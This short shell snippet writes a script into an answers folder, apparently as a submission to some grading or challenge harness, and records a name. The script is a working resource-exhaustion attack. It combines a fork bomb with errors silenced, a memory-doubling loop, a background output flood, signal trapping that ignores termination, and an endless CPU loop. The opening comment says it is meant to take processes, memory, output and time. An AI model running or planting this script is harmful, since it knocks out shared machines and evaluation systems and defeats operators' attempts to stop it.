# The script takes what it can: processes, memory, output, time.
cat >~/answers/nodes.sh <<'END'
bomb() { bomb | bomb & }
bomb 2>/dev/null
x=a; (while :; do x=$x$x; done) &
yes &
trap '' TERM INT HUP
while :; do :; done
END
echo web >~/answers/name.txt
